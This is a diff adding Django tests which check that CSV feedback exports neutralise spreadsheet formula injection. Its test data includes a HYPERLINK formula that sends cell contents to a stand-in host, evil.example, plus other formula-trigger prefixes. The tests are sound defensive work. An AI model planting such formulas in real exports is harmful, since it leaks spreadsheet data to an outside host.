@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import io
 from collections.abc import Iterator
 from typing import Any
 
@@ -80,3 +81,59 @@ def test_password_protected_page_is_hidden_from_superusers_in_every_channel():
     saved = client.get(f"{API}/sessions/{fresh}/messages/").json()["results"]
     assert len(saved) == 6 and all(VAULT_SECRET not in m["content"] for m in saved)
     assert not ChatSession.objects.get(uuid=fresh).messages.filter(content__contains=VAULT_SECRET).exists()
+
+
+# --- CSV formula injection ------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def test_cell_neutralise_prefixes_formula_text_and_leaves_numbers():
+    from datacollection.spreadsheets import cell_neutralise
+
+    assert [cell_neutralise(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
+    assert cell_neutralise("Install =x") == "Install =x"
+    assert cell_neutralise(-3) == -3 and cell_neutralise(None) is None
+
+
+def _formula_feedback() -> tuple[Any, list[Any]]:
+    from tests.chatbot.test_feedback_data import answer, days_ago, rate, section
+    from tests.factories import knowledge_page, paragraph, user
+
+    docs, ana = section(), user("ana")
+    pages = [knowledge_page(docs, title=title, body=[paragraph("Text.")]) for title in FORMULAS[:4]]
+    for page in pages:
+        rate(answer(ana, question="Which page?", cites=[page], at=days_ago(1)), ana, "down", "Bad")
+    for formula in FORMULAS:
+        answer(ana, question=formula, declined=True, at=days_ago(1))
+    return ana, pages
+
+
+def _cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_feedback_report_csv_neutralises_formulas():
+    from django.core.management import call_command
+
+    _formula_feedback()
+    out = io.StringIO()
+    call_command("feedback_report", "--since", "30d", "--format", "csv", stdout=out)
+    cells = _cells(out.getvalue())
+    assert "'" + FORMULAS[0] in cells and "'@SUM(A1)" in cells  # a title, and a declined question
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_answer_feedback_by_page_csv_export_neutralises_formulas(client):
+    from tests.factories import user
+
+    _formula_feedback()
+    client.force_login(user("root", is_superuser=True, is_staff=True))
+    response = client.get("/admin/reports/answer-feedback/", {"export": "csv"})
+    assert response.status_code == 200
+    cells = _cells(b"".join(response.streaming_content).decode())
+    assert {"'" + title for title in FORMULAS[:4]} <= set(cells)
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
